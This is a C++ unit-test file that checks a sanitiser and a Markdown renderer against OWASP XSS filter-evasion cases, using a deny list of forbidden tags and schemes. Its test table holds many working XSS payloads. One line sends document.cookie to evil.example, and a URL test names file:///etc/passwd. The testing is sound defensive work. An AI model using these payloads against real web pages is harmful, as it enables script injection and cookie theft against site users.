// KB-1: the HTML sanitiser and the Markdown renderer hold against OWASP's XSS filter-evasion cases.
#include <gtest/gtest.h>

#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <regex>
#include <string>
#include <string_view>
#include <vector>

#include "domain/markup/markdown.h"
#include "domain/markup/sanitizer.h"

namespace tandem::markup {
namespace {

using namespace std::string_literals;
using namespace std::string_view_literals;

// =============================================================================================
// The checker: would a browser run anything in this output?
// =============================================================================================

char ascii_lower(char c) { return (c >= 'A' && c <= 'Z') ? static_cast<char>(c - 'A' + 'a') : c; }

std::string lower(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  for (char c : s) out += ascii_lower(c);
  return out;
}

// Control characters shown as \xNN, so that failure messages stay readable.
std::string printable(std::string_view s) {
  std::string out;
  for (char c : s) {
    const auto u = static_cast<unsigned char>(c);
    if (u < 0x20 || u == 0x7F) {
      char buf[8];
      std::snprintf(buf, sizeof buf, "\\x%02X", u);
      out += buf;
    } else {
      out += c;
    }
  }
  return out;
}

void append_utf8(std::string& out, std::uint32_t cp) {
  if (cp < 0x80) {
    out += static_cast<char>(cp);
  } else if (cp < 0x800) {
    out += static_cast<char>(0xC0 | (cp >> 6));
    out += static_cast<char>(0x80 | (cp & 0x3F));
  } else if (cp < 0x10000) {
    out += static_cast<char>(0xE0 | (cp >> 12));
    out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
    out += static_cast<char>(0x80 | (cp & 0x3F));
  } else {
    out += static_cast<char>(0xF0 | (cp >> 18));
    out += static_cast<char>(0x80 | ((cp >> 12) & 0x3F));
    out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
    out += static_cast<char>(0x80 | (cp & 0x3F));
  }
}

int digit_value(char c, int base) {
  if (c >= '0' && c <= '9') return c - '0';
  if (base == 16 && c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (base == 16 && c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

// Character references decoded as a browser does in an attribute value: numeric ones, decimal or
// hex, with or without the ';', and the named ones an XSS payload uses (matched without regard
// to case, which is stricter than a browser). Used only to check what is inside tags.
std::string decode_entities(std::string_view s) {
  struct Named {
    std::string_view name;  // without the '&'
    std::string_view text;
  };
  static constexpr Named kNamed[] = {
      {"colon;", ":"}, {"tab;", "\t"},  {"newline;", "\n"}, {"lpar;", "("},  {"rpar;", ")"},
      {"amp;", "&"},   {"lt;", "<"},    {"gt;", ">"},       {"quot;", "\""}, {"apos;", "'"},
      {"sol;", "/"},   {"num;", "#"},   {"semi;", ";"},     {"comma;", ","}, {"period;", "."},
      // The legacy references a browser also reads without their ';'.
      {"amp", "&"},    {"lt", "<"},     {"gt", ">"},        {"quot", "\""},
  };
  std::string out;
  out.reserve(s.size());
  std::size_t i = 0;
  while (i < s.size()) {
    if (s[i] != '&') {
      out += s[i++];
      continue;
    }
    const std::string_view rest = s.substr(i + 1);
    if (!rest.empty() && rest[0] == '#') {
      std::size_t k = 1;
      int base = 10;
      if (k < rest.size() && (rest[k] == 'x' || rest[k] == 'X')) {
        base = 16;
        ++k;
      }
      const std::size_t first_digit = k;
      std::uint32_t cp = 0;
      while (k < rest.size()) {
        const int d = digit_value(rest[k], base);
        if (d < 0) break;
        cp = cp * static_cast<std::uint32_t>(base) + static_cast<std::uint32_t>(d);
        if (cp > 0x110000) cp = 0x110000;
        ++k;
      }
      if (k == first_digit) {  // "&#" or "&#x" with no digits: not a reference
        out += s[i++];
        continue;
      }
      if (k < rest.size() && rest[k] == ';') ++k;
      if (cp == 0 || cp > 0x10FFFF || (cp >= 0xD800 && cp <= 0xDFFF)) cp = 0xFFFD;
      append_utf8(out, cp);
      i += 1 + k;
      continue;
    }
    bool matched = false;
    for (const auto& [name, text] : kNamed) {
      if (rest.size() >= name.size() && lower(rest.substr(0, name.size())) == name) {
        out += text;
        i += 1 + name.size();
        matched = true;
        break;
      }
    }
    if (!matched) out += s[i++];
  }
  return out;
}

// Why one tag (the text from '<' to the next '>') is unsafe, or "" if it is not.
std::string tag_problem(std::string_view raw_tag) {
  static constexpr std::string_view kForbiddenElements[] = {
      "script", "style", "iframe", "object", "embed", "meta", "link",
      "base",   "frame", "svg",    "math",   "form",  "body",
  };
  static constexpr std::string_view kForbiddenSchemes[] = {
      "javascript:", "vbscript:", "data:", "expression(", "livescript:",
  };
  static const std::regex kEventHandler(R"([\s/"']on[a-z]+\s*=)");
  static const std::regex kStyle(R"(style\s*=)");

  const std::string tag = lower(decode_entities(raw_tag));
  for (std::string_view element : kForbiddenElements) {
    if (tag.starts_with("<"s.append(element)) || tag.starts_with("</"s.append(element))) {
      return "forbidden element <"s.append(element) + ">";
    }
  }
  if (std::regex_search(tag, kEventHandler)) return "event-handler attribute";
  if (std::regex_search(tag, kStyle)) return "style attribute";
  if (tag.find("srcdoc") != std::string::npos) return "srcdoc attribute";
  if (tag.find("formaction") != std::string::npos) return "formaction attribute";

  std::string compact;  // what is left once every blank and control character is gone
  for (char c : tag) {
    if (static_cast<unsigned char>(c) > 0x20) compact += c;
  }
  for (std::string_view scheme : kForbiddenSchemes) {
    if (compact.find(scheme) != std::string::npos) return "contains "s.append(scheme);
  }
  return "";
}

::testing::AssertionResult IsSafeHtml(std::string_view html) {
  if (lower(html).find("<script") != std::string::npos) {
    return ::testing::AssertionFailure() << "output contains <script\n  output: " << printable(html);
  }
  // Every match of <[^>]*>: from a '<' to the first '>' after it.
  std::size_t open = html.find('<');
  while (open != std::string_view::npos) {
    const std::size_t close = html.find('>', open + 1);
    if (close == std::string_view::npos) break;
    const std::string_view tag = html.substr(open, close - open + 1);
    if (const std::string problem = tag_problem(tag); !problem.empty()) {
      return ::testing::AssertionFailure() << problem << " in tag " << printable(tag)
                                           << "\n  output: " << printable(html);
    }
    open = html.find('<', close + 1);
  }
  return ::testing::AssertionSuccess();
}

::testing::AssertionResult Contains(std::string_view haystack, std::string_view needle) {
  if (haystack.find(needle) != std::string_view::npos) return ::testing::AssertionSuccess();
  return ::testing::AssertionFailure() << "\"" << printable(haystack) << "\" does not contain \""
                                       << printable(needle) << "\"";
}

::testing::AssertionResult Lacks(std::string_view haystack, std::string_view needle) {
  if (haystack.find(needle) == std::string_view::npos) return ::testing::AssertionSuccess();
  return ::testing::AssertionFailure() << "\"" << printable(haystack) << "\" contains \""
                                       << printable(needle) << "\"";
}

// The checker must catch what it is there to catch, or the table below proves nothing.
TEST(XssChecker, FlagsWhatABrowserWouldRun) {
  EXPECT_FALSE(IsSafeHtml("<SCRIPT>alert(1)</SCRIPT>"));
  EXPECT_FALSE(IsSafeHtml("x</script>"));
  EXPECT_FALSE(IsSafeHtml("<img src=x onerror=alert(1)>"));
  EXPECT_FALSE(IsSafeHtml("<svg/onload=alert(1)>"));
  EXPECT_FALSE(IsSafeHtml("<p/onclick=\"alert(1)\">x</p>"));
  EXPECT_FALSE(IsSafeHtml("<p style=\"color:red\">x</p>"));
  EXPECT_FALSE(IsSafeHtml("<a href=\"jav&#x09;ascript:alert(1)\">x</a>"));
  EXPECT_FALSE(IsSafeHtml("<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>"));
  EXPECT_FALSE(IsSafeHtml("<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>"));
  EXPECT_FALSE(IsSafeHtml("<a href=javascript&colon;alert(1)>x</a>"));
  EXPECT_FALSE(IsSafeHtml("<a href=\"java&Tab;script&colon;alert&lpar;1&rpar;\">x</a>"));
  EXPECT_FALSE(IsSafeHtml("<a href=\"java\0script:alert(1)\">x</a>"sv));
  EXPECT_FALSE(IsSafeHtml("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>"));
  EXPECT_FALSE(IsSafeHtml("<iframe srcdoc=\"x\"></iframe>"));
  EXPECT_FALSE(IsSafeHtml("<button formaction=\"https://a.example\">x</button>"));

  EXPECT_TRUE(IsSafeHtml("<p>Hello <strong>world</strong></p>"));
  EXPECT_TRUE(IsSafeHtml("&lt;script&gt;alert(1)&lt;/script&gt;"));
  EXPECT_TRUE(IsSafeHtml("a &lt; b &amp; c"));
  EXPECT_TRUE(IsSafeHtml(
      "<a href=\"https://example.com/x?a=1&amp;b=2\" rel=\"nofollow noopener noreferrer\">x</a>"));
  EXPECT_TRUE(IsSafeHtml("<img src=\"/api/v1/attachments/att_1\" alt=\"p\">"));
}

// =============================================================================================
// OWASP XSS Filter Evasion Cheat Sheet: every case through the sanitiser and through Markdown.
// =============================================================================================

struct XssCase {
  const char* name;
  std::string input;
};

const std::vector<XssCase>& xss_cases() {
  static const std::vector<XssCase> cases = {
      // --- <script>, plain and with its case varied -------------------------------------------
      {"script_src", R"x(<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>)x"},
      {"script_inline", R"x(<script>alert('XSS')</script>)x"},
      {"script_mixed_case", R"x(<ScRiPt>alert(1)</sCrIpT>)x"},
      {"script_amid_text",
       R"x(hello <script type="text/javascript">document.location='https://evil.example/?c='+document.cookie</script> world)x"},

      // --- Malformed tags ---------------------------------------------------------------------
      {"malformed_a_backslashes", R"x(\<a onmouseover="alert(document.cookie)"\>xxs link\</a\>)x"},
      {"malformed_a_unquoted_handler", R"x(<a onmouseover=alert(document.cookie)>xxs link</a>)x"},
      {"malformed_img_quotes", R"x(<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>)x"},

      // --- javascript: in an image source -----------------------------------------------------
      {"img_javascript", R"x(<IMG SRC="javascript:alert('XSS');">)x"},
      {"img_javascript_unquoted", R"x(<IMG SRC=javascript:alert('XSS')>)x"},
      {"img_javascript_case", R"x(<IMG SRC=JaVaScRiPt:alert('XSS')>)x"},
      {"img_javascript_quot_entities", R"x(<IMG SRC=javascript:alert(&quot;XSS&quot;)>)x"},
      {"img_grave_accents", R"x(<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>)x"},
      {"img_grave_accents_onerror", R"x(<img src=`x`onerror=alert(1)>)x"},
      {"img_fromcharcode", R"x(<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>)x"},
      {"a_unquoted_javascript", R"x(<a href=javascript:alert(1)>x</a>)x"},

      // --- Event handlers ---------------------------------------------------------------------
      {"img_onerror", R"x(<img src=x onerror=alert(1)>)x"},
      {"img_onerror_fromcharcode",
       R"x(<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>)x"},
      {"img_onerror_after_backtick", "<img src=\"x` onerror=alert(1)>"},
      {"svg_slash_onload", R"x(<svg/onload=alert('XSS')>)x"},
      {"svg_onload_unclosed", R"x(<svg onload=alert(1)//)x"},
      {"body_onload", R"x(<BODY ONLOAD=alert('XSS')>)x"},
      {"body_onload_non_alpha", R"x(<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>)x"},
      {"details_open_ontoggle", R"x(<details open ontoggle=alert(1)>)x"},
      {"marquee_onstart", R"x(<marquee onstart=alert(1)>x</marquee>)x"},
      {"p_slash_onmouseover", R"x(<p/onmouseover=alert(1)>x</p>)x"},
      {"a_onclick_beside_safe_href", R"x(<a href="https://ok.example/" onclick="alert(1)">ok</a>)x"},
      {"input_autofocus_onfocus", R"x(<input onfocus=alert(1) autofocus>)x"},

      // --- Character references inside javascript: --------------------------------------------
      {"img_decimal_entities",
       R"x(<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>)x"},
      {"img_decimal_entities_padded_no_semicolon",
       R"x(<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>)x"},
      {"img_hex_entities_no_semicolon",
       R"x(<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>)x"},
      {"a_hex_entities",
       R"x(<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>)x"},
      {"a_mixed_encoding", R"x(<a href="&#106;av&#x61;script&#0000058alert(1)">x</a>)x"},
      {"a_named_colon", R"x(<a href=javascript&colon;alert(1)>x</a>)x"},
      {"a_named_tab_colon_parens", R"x(<a href="java&Tab;script&colon;alert&lpar;1&rpar;">x</a>)x"},

      // --- Blanks and control characters inside or before javascript: -------------------------
      {"img_embedded_tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"},
      {"img_embedded_encoded_tab", R"x(<IMG SRC="jav&#x09;ascript:alert('XSS');">)x"},
      {"a_embedded_encoded_tab", R"x(<a href="jav&#x09;ascript:alert(1)">x</a>)x"},
      {"img_embedded_encoded_newline", R"x(<IMG SRC="jav&#x0A;ascript:alert('XSS');">)x"},
      {"a_embedded_newline", "<a href=\"java\nscript:alert(1)\">x</a>"},
      {"img_embedded_encoded_carriage_return", R"x(<IMG SRC="jav&#x0D;ascript:alert('XSS');">)x"},
      {"a_embedded_carriage_return", "<a href=\"java\rscript:alert(1)\">x</a>"},
      {"img_embedded_nul", "<IMG SRC=java\0script:alert(\"XSS\")>"s},
      {"a_leading_nul", "<a href=\"\0javascript:alert(1)\">x</a>"s},
      {"script_name_with_nul", "<SCR\0IPT>alert(\"XSS\")</SCR\0IPT>"s},
      {"img_spaces_and_meta_chars", R"x(<IMG SRC=" &#14;  javascript:alert('XSS');">)x"},
      {"a_leading_spaces", R"x(<a href="  javascript:alert(1)">x</a>)x"},
      {"a_leading_control_chars", "<a href=\"\001\002\037javascript:alert(1)\">x</a>"},

      // --- Odd tag syntax ---------------------------------------------------------------------
      {"script_non_alpha_non_digit", R"x(<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>)x"},
      {"script_slash_src", R"x(<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>)x"},
      {"extraneous_open_brackets", R"x(<<SCRIPT>alert("XSS");//\<</SCRIPT>)x"},
      {"script_no_closing_tag", R"x(<SCRIPT SRC=http://xss.example/xss.js?< B >)x"},
      {"script_protocol_resolution", R"x(<SCRIPT SRC=//evil.example/.j>)x"},
      {"img_half_open", R"x(<IMG SRC="javascript:alert('XSS')")x"},
      {"iframe_double_open_angle", R"x(<iframe src=http://xss.example/scriptlet.html <)x"},
      {"img_double_open_angles", R"x(<<img src=x onerror=alert(1)//<<)x"},
      {"escaping_js_escapes", R"x(\";alert('XSS');//</script><script>alert('XSS');</script>)x"},
      {"end_title_then_script", R"x(</TITLE><SCRIPT>alert("XSS");</SCRIPT>)x"},

      // --- Other attributes and schemes that load a URL ---------------------------------------
      {"input_image", R"x(<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">)x"},
      {"body_background", R"x(<BODY BACKGROUND="javascript:alert('XSS')">)x"},
      {"img_dynsrc", R"x(<IMG DYNSRC="javascript:alert('XSS')">)x"},
      {"img_lowsrc", R"x(<IMG LOWSRC="javascript:alert('XSS')">)x"},
      {"img_vbscript", R"x(<IMG SRC='vbscript:msgbox("XSS")'>)x"},
      {"a_vbscript", R"x(<a href="VBScript:MsgBox(1)">x</a>)x"},
      {"img_livescript", R"x(<IMG SRC="livescript:[code]">)x"},
      {"a_data_html_base64",
       R"x(<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>)x"},
      {"img_data_svg_base64",
       R"x(<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">)x"},

      // --- Style ------------------------------------------------------------------------------
      {"style_import", R"x(<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>)x"},
      {"style_tag_background_url",
       R"x(<STYLE TYPE="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>)x"},
      {"style_attr_expression_split", R"x(<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">)x"},
      {"div_style_expression", R"x(<DIV STYLE="width: expression(alert('XSS'));">)x"},
      {"div_background_image_url", R"x(<DIV STYLE="background-image: url(javascript:alert('XSS'))">)x"},
      {"div_background_image_css_escapes",
       R"x(<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">)x"},
      {"xss_style_behavior", R"x(<XSS STYLE="behavior: url(xss.htc);">)x"},

      // --- Elements of the head ---------------------------------------------------------------
      {"link_stylesheet", R"x(<LINK REL="stylesheet" HREF="javascript:alert('XSS');">)x"},
      {"meta_refresh_javascript",
       R"x(<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">)x"},
      {"meta_refresh_data",
       R"x(<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">)x"},
      {"base_href", R"x(<BASE HREF="javascript:alert('XSS');//">)x"},

      // --- Frames and embedded content --------------------------------------------------------
      {"iframe_javascript", R"x(<IFRAME SRC="javascript:alert('XSS');"></IFRAME>)x"},
      {"iframe_onmouseover", R"x(<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>)x"},
      {"iframe_srcdoc", R"x(<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>)x"},
      {"frameset", R"x(<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>)x"},
      {"object_scriptlet",
       R"x(<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>)x"},
      {"embed_data_svg",
       R"x(<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>)x"},

      // --- Tables -----------------------------------------------------------------------------
      {"table_background", R"x(<TABLE BACKGROUND="javascript:alert('XSS')">)x"},
      {"td_background", R"x(<TABLE><TD BACKGROUND="javascript:alert('XSS')">)x"},

      // --- XML, comments and CDATA ------------------------------------------------------------
      {"xml_namespace_htc",
       R"x(<HTML xmlns:xss><?import namespace="xss" implementation="http://xss.example/xss.htc"><xss:xss>XSS</xss:xss></HTML>)x"},
      {"xml_cdata_split",
       R"x(<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert('XSS');">]]></C></X></xml>)x"},
      {"conditional_comment", R"x(<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->)x"},
      {"cdata_script", R"x(<![CDATA[<script>alert('XSS')</script>]]>)x"},
      {"comment_split_javascript", R"x(<IMG SRC="javas<!-- -->cript:alert('XSS')">)x"},

      // --- SVG and MathML ---------------------------------------------------------------------
      {"svg_script", R"x(<svg><script>alert(1)</script></svg>)x"},
      {"svg_script_xlink", R"x(<svg><script xlink:href="data:,alert(1)"></script></svg>)x"},
      {"svg_a_xlink",
       R"x(<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>)x"},
      {"math_maction_xlink",
       R"x(<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>)x"},
      {"math_href", R"x(<math href="javascript:alert(1)">click</math>)x"},

      // --- Forms ------------------------------------------------------------------------------
      {"form_button_formaction", R"x(<form><button formaction="javascript:alert(1)">x</button></form>)x"},
      {"button_formaction_alone", R"x(<button formaction=javascript:alert(1)>x</button>)x"},
      {"form_action", R"x(<form action="javascript:alert(1)"><input type="submit"></form>)x"},
  };
  return cases;
}

TEST(SanitizeHtml, OwaspTableHasEnoughCases) { EXPECT_GE(xss_cases().size(), 45u); }

TEST(SanitizeHtml, OwaspFilterEvasionCasesComeOutSafe) {
  for (const XssCase& c : xss_cases()) {
    SCOPED_TRACE(c.name);
    const std::string out = sanitize_html(c.input);
    EXPECT_TRUE(IsSafeHtml(out)) << "case " << c.name << ", input: " << printable(c.input);
  }
}

TEST(MarkdownToHtml, OwaspFilterEvasionCasesComeOutSafe) {
  for (const XssCase& c : xss_cases()) {
    SCOPED_TRACE(c.name);
    const std::string out = markdown_to_html(c.input);
    EXPECT_TRUE(IsSafeHtml(out)) << "case " << c.name << ", input: " << printable(c.input);
  }
}

// Markdown has XSS routes of its own: link destinations (where cmark decodes entities),
// autolinks, reference definitions and code.
TEST(MarkdownToHtml, MarkdownLinkTricksComeOutSafe) {
  const std::vector<XssCase> cases = {
      {"link_javascript", "[x](javascript:alert(1))"},
      {"link_javascript_case", "[x](JaVaScRiPt:alert(1))"},
      {"link_decimal_entity", "[x](&#106;avascript:alert(1))"},
      {"link_named_colon", "[x](javascript&colon;alert(1))"},
      {"link_angle_destination", "[x](<javascript:alert(1)>)"},
      {"autolink_javascript", "<javascript:alert(1)>"},
      {"reference_definition", "[x][r]\n\n[r]: javascript:alert(1)\n"},
      {"image_javascript", "![x](javascript:alert(1))"},
      {"link_vbscript", "[x](vbscript:msgbox(1))"},
      {"link_data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"},
      {"inline_html_in_paragraph", "hello <img src=x onerror=alert(1)> world"},
      {"html_block_handler", "<div onclick=\"alert(1)\">\n\n*x*\n\n</div>"},
      {"code_span_script", "`<script>alert(1)</script>`"},
      {"fenced_code_script", "```html\n<script>alert(1)</script>\n```\n"},
  };
  for (const XssCase& c : cases) {
    SCOPED_TRACE(c.name);
    const std::string out = markdown_to_html(c.input);
    EXPECT_TRUE(IsSafeHtml(out)) << "case " << c.name << ", input: " << printable(c.input);
  }
}

// =============================================================================================
// What the sanitiser keeps, and how it writes it.
// =============================================================================================

TEST(SanitizeHtml, KeepsAllowedMarkupExactly) {
  EXPECT_EQ(sanitize_html("<p>Hello <strong>world</strong></p>"),
            "<p>Hello <strong>world</strong></p>");
}

TEST(SanitizeHtml, LinksKeepTheirHrefAndGainRel) {
  EXPECT_EQ(sanitize_html(R"(<a href="https://example.com/x?a=1&amp;b=2">x</a>)"),
            R"(<a href="https://example.com/x?a=1&amp;b=2" rel="nofollow noopener noreferrer">x</a>)");
}

TEST(SanitizeHtml, EscapesLessThanAndAmpersandInText) {
  EXPECT_EQ(sanitize_html("a < b & c"), "a &lt; b &amp; c");
}

TEST(SanitizeHtml, DropsAnUnknownTagButKeepsItsText) {
  EXPECT_EQ(sanitize_html("<blink>hi</blink>"), "hi");
}

TEST(SanitizeHtml, DropsAScriptWithItsContent) {
  EXPECT_EQ(sanitize_html("a<script>alert(1)</script>b"), "ab");
}

TEST(SanitizeHtml, ClosesUnclosedElements) { EXPECT_EQ(sanitize_html("<em>x"), "<em>x</em>"); }

TEST(SanitizeHtml, KeepsImagesFromOurAttachments) {
  const std::string out = sanitize_html(R"(<img src="/api/v1/attachments/att_1" alt="p">)");
  EXPECT_TRUE(Contains(out, R"(<img src="/api/v1/attachments/att_1" alt="p")"));
  EXPECT_TRUE(IsSafeHtml(out));
}

TEST(SanitizeHtml, DoesNotEmbedImagesFromElsewhereButKeepsTheAltText) {
  const std::string out = sanitize_html(R"(<img src="https://evil.example/cat.png" alt="a grey cat">)");
  EXPECT_TRUE(Lacks(lower(out), "<img"));
  EXPECT_TRUE(Contains(out, "a grey cat"));
  EXPECT_TRUE(IsSafeHtml(out));
}

TEST(SanitizeHtml, EmbedsImagesFromHostsThePolicyAllows) {
  const SanitizePolicy policy{.image_hosts = {"img.example"}};
  const std::string out = sanitize_html(R"(<img src="https://img.example/a.png" alt="a">)", policy);
  EXPECT_TRUE(Contains(out, "<img"));
  EXPECT_TRUE(Contains(out, "https://img.example/a.png"));
  EXPECT_TRUE(IsSafeHtml(out));

  // Without the policy the same image is not embedded.
  EXPECT_TRUE(Lacks(sanitize_html(R"(<img src="https://img.example/a.png" alt="a">)"), "<img"));
}

TEST(SanitizeHtml, ImageHostsMatchExactly) {
  const SanitizePolicy policy{.image_hosts = {"img.example"}};
  for (const char* src : {
           "https://img.example.evil.example/a.png",
           "https://evil.example/img.example/a.png",
           "https://img.example@evil.example/a.png",
           "https://evil.example/api/v1/attachments/att_1",
       }) {
    SCOPED_TRACE(src);
    const std::string out = sanitize_html("<img src=\""s + src + "\" alt=\"a\">", policy);
    EXPECT_TRUE(Lacks(lower(out), "<img")) << src;
    EXPECT_TRUE(IsSafeHtml(out));
  }
}

// =============================================================================================
// is_safe_url
// =============================================================================================

TEST(IsSafeUrl, AcceptsHttpMailtoTelAndRelative) {
  for (std::string_view url : {
           "https://a.example"sv,
           "http://a.example"sv,
           "HTTPS://A.EXAMPLE/"sv,
           "https://a.example/javascript:alert(1)"sv,
           "mailto:x@y.example"sv,
           "tel:+8613800000000"sv,
           "/relative/path"sv,
           "#frag"sv,
           "page.html"sv,
           "?q=1"sv,
       }) {
    EXPECT_TRUE(is_safe_url(url)) << printable(url);
  }
}

TEST(IsSafeUrl, RejectsScriptDataAndFileSchemesHowEverWritten) {
  for (std::string_view url : {
           "javascript:alert(1)"sv,
           "JaVaScRiPt:alert(1)"sv,
           " javascript:alert(1)"sv,
           " \t\n javascript:alert(1)"sv,
           "\001\037javascript:alert(1)"sv,
           "java\tscript:alert(1)"sv,
           "java\nscript:x"sv,
           "java\rscript:x"sv,
           "java\0script:alert(1)"sv,
           "vbscript:x"sv,
           "data:text/html;base64,PHNjcmlwdD4="sv,
           "file:///etc/passwd"sv,
       }) {
    EXPECT_FALSE(is_safe_url(url)) << printable(url);
  }
}

// =============================================================================================
// Markdown
// =============================================================================================

TEST(MarkdownToHtml, RendersEmphasis) {
  const std::string out = markdown_to_html("**bold** and *em*");
  EXPECT_TRUE(Contains(out, "<strong>bold</strong>"));
  EXPECT_TRUE(Contains(out, "<em>em</em>"));
}

TEST(MarkdownToHtml, RendersGfmTables) {
  const std::string out = markdown_to_html("| a | b |\n|---|---|\n| 1 | 2 |\n");
  EXPECT_TRUE(Contains(out, "<table"));
  EXPECT_TRUE(Contains(out, "<th"));
  EXPECT_TRUE(Contains(out, "<td"));
  EXPECT_TRUE(IsSafeHtml(out));
}

TEST(MarkdownToHtml, RendersStrikethrough) {
  EXPECT_TRUE(Contains(markdown_to_html("~~gone~~"), "<del>gone</del>"));
}

TEST(MarkdownToHtml, GivesJavascriptLinksNoHref) {
  const std::string out = markdown_to_html("[x](javascript:alert(1))");
  EXPECT_TRUE(IsSafeHtml(out));
  EXPECT_TRUE(Lacks(lower(out), "href=\"javascript"));
  EXPECT_TRUE(Contains(out, "x"));
}

TEST(MarkdownToHtml, DoesNotEmbedImagesFromElsewhere) {
  const std::string out = markdown_to_html("![t](https://evil.example/t.png)");
  EXPECT_TRUE(Lacks(lower(out), "<img"));
  EXPECT_TRUE(Contains(out, "t"));
  EXPECT_TRUE(IsSafeHtml(out));

  const std::string longer = markdown_to_html("![a grey cat](https://evil.example/cat.png)");
  EXPECT_TRUE(Lacks(lower(longer), "<img"));
  EXPECT_TRUE(Contains(longer, "a grey cat"));
}

TEST(MarkdownToHtml, EmbedsImagesFromOurAttachments) {
  const std::string out = markdown_to_html("![t](/api/v1/attachments/att_9)");
  EXPECT_TRUE(Contains(out, "<img"));
  EXPECT_TRUE(Contains(out, R"(src="/api/v1/attachments/att_9")"));
  EXPECT_TRUE(IsSafeHtml(out));
}

TEST(MarkdownToHtml, KeepsChineseText) {
  EXPECT_TRUE(Contains(markdown_to_html("**加粗** 中文"), "<strong>加粗</strong> 中文"));
}

TEST(MarkdownToText, DropsTheMarkupButKeepsTheWords) {
  const std::string text = markdown_to_text("# Title\n\n**bold** [link](https://x.example)");
  EXPECT_TRUE(Contains(text, "Title"));
  EXPECT_TRUE(Contains(text, "bold"));
  EXPECT_TRUE(Contains(text, "link"));
  EXPECT_TRUE(Lacks(text, "**"));
  EXPECT_TRUE(Lacks(text, "<"));
  // No line (the first included) begins with a heading's '#'.
  std::size_t line_start = 0;
  while (line_start <= text.size()) {
    std::size_t first = text.find_first_not_of(" \t", line_start);
    if (first != std::string::npos && text[first] != '\n') {
      EXPECT_NE(text[first], '#') << "line starting at " << line_start << " of \"" << text << "\"";
    }
    const std::size_t newline = text.find('\n', line_start);
    if (newline == std::string::npos) break;
    line_start = newline + 1;
  }
}

}  // namespace
}  // namespace tandem::markup
